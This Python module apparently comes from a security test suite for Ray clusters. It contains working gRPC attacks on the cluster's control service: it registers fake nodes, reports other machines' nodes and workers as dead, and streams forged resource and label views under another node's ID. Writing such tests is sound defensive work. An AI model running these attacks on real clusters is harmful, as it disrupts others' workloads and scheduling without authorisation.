"""Attacks by what a node says of itself and of others: registrations, deaths, resources, labels."""

import time
from typing import Any

import grpc
from ray.core.generated import common_pb2, gcs_pb2, gcs_service_pb2

from tests.attack.programs import wire

STREAM = "/ray.rpc.syncer.RaySyncer/StartSync"


def register(
    labels: dict[str, str],
    resources: dict[str, float],
    address: str | None = None,
    *,
    is_head: bool = False,
) -> tuple[bool, str, dict[str, Any]]:
    """Register one more node: like this machine's own, but for what is given."""
    at = wire.session()
    own = wire.own_node(at)
    node = gcs_pb2.GcsNodeInfo()
    node.CopyFrom(own)
    node.node_id = wire.random_id()
    node.is_head_node = is_head
    node.labels["ray.io/node-id"] = node.node_id.hex()
    if address is not None:
        node.node_manager_address = address
        node.resources_total.pop(f"node:{own.node_manager_address}", None)
        node.resources_total[f"node:{address}"] = 1.0
    for name, value in labels.items():
        node.labels[name] = value
    for name, amount in resources.items():
        node.resources_total[name] = amount
    facts = {"node_id": node.node_id.hex()}
    try:
        wire.gcs(at, f"{wire.NODES}/RegisterNode", gcs_service_pb2.RegisterNodeRequest(node_info=node))
    except grpc.RpcError as error:
        return False, wire.refusal(error), facts
    return True, "accepted", facts


def unregister(address: str) -> tuple[bool, str, dict[str, Any]]:
    """Report the node of another machine as gone."""
    at = wire.session()
    node = next(n for n in wire.nodes(at) if n.node_manager_address == address)
    request = gcs_service_pb2.UnregisterNodeRequest(node_id=node.node_id)
    request.node_death_info.reason = common_pb2.NodeDeathInfo.EXPECTED_TERMINATION
    request.node_death_info.reason_message = "attack"
    refused = []
    drain = gcs_service_pb2.DrainNodeRequest()
    drain.drain_node_data.add(node_id=node.node_id)
    for method, message in (("UnregisterNode", request), ("DrainNode", drain)):
        try:
            wire.gcs(at, f"{wire.NODES}/{method}", message)
        except grpc.RpcError as error:
            refused.append(f"{method} {wire.refusal(error)}")
    return len(refused) < 2, "; ".join(refused) or "accepted", {"node_id": node.node_id.hex()}


def fail_worker(worker_id: str, node_id: str, address: str, port: int) -> tuple[bool, str]:
    """Report a worker of another node as dead; whoever owns actors there believes it."""
    at = wire.session()
    failure = gcs_pb2.WorkerTableData(
        is_alive=False, timestamp=int(time.time() * 1000), exit_detail="attack", exit_type=common_pb2.SYSTEM_ERROR,
        worker_address=common_pb2.Address(
            node_id=bytes.fromhex(node_id), ip_address=address, port=port, worker_id=bytes.fromhex(worker_id)
        ),
    )  # fmt: skip
    try:
        wire.gcs(
            at, "WorkerInfoGcsService/ReportWorkerFailure", gcs_service_pb2.ReportWorkerFailureRequest(worker_failure=failure)
        )
    except grpc.RpcError as error:
        return False, wire.refusal(error)
    return True, "accepted"


def sync(
    about: str, labels: dict[str, str], resources: dict[str, float], stay_s: float = 4.0
) -> tuple[bool, str, dict[str, Any]]:
    """Tell false resources and labels in the resource stream, about the own node or the one at an address; keep the stream open."""
    at = wire.session()
    own = wire.own_node(at)
    target = own if about == "own" else next(n for n in wire.nodes(at) if n.node_manager_address == about)
    totals = dict(target.resources_total) | resources
    view = b"".join(
        [_pairs(1, totals), _pairs(2, totals), *(_field(8, _field(1, k.encode()) + _field(2, v.encode())) for k, v in
                                               {**target.labels, **labels}.items())]
    )  # fmt: skip
    said = []
    for claimed in dict.fromkeys((own.node_id, target.node_id)):  # as whom the stream is opened
        version = time.time_ns()
        # int64 version = 1; MessageType message_type = 2 (0: resource view); bytes sync_message = 3; bytes node_id = 4
        message = _number(1, version) + _field(3, view) + _field(4, target.node_id)
        said.append(_stream(at, claimed, _field(1, message), stay_s))
    return any("open" in word for word in said), "; ".join(said), {"node_id": target.node_id.hex()}


def _stream(at: wire.Session, claimed: bytes, batch: bytes, stay_s: float) -> str:
    from threading import Event

    done = Event()

    def messages() -> Any:
        yield batch
        yield batch
        done.wait(stay_s)

    metadata = [*wire.credentials(at.token), ("node_id", claimed.hex())]
    with grpc.insecure_channel(at.gcs, options=wire.UNLIMITED) as channel:
        call = channel.stream_stream(STREAM)(messages(), metadata=metadata, timeout=stay_s)
        count = 0
        try:
            for _ in call:
                count += 1
        except grpc.RpcError as error:
            if error.code() != grpc.StatusCode.DEADLINE_EXCEEDED:
                return wire.refusal(error)
        finally:
            done.set()
    return f"stayed open for {stay_s:.0f} s, {count} answers"


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def _number(field: int, value: int) -> bytes:
    return _varint(field << 3) + _varint(value)


def _field(field: int, value: bytes) -> bytes:
    return _varint(field << 3 | 2) + _varint(len(value)) + value


def _pairs(field: int, values: dict[str, float]) -> bytes:
    import struct

    return b"".join(_field(field, _field(1, k.encode()) + _varint(2 << 3 | 1) + struct.pack("<d", v)) for k, v in values.items())
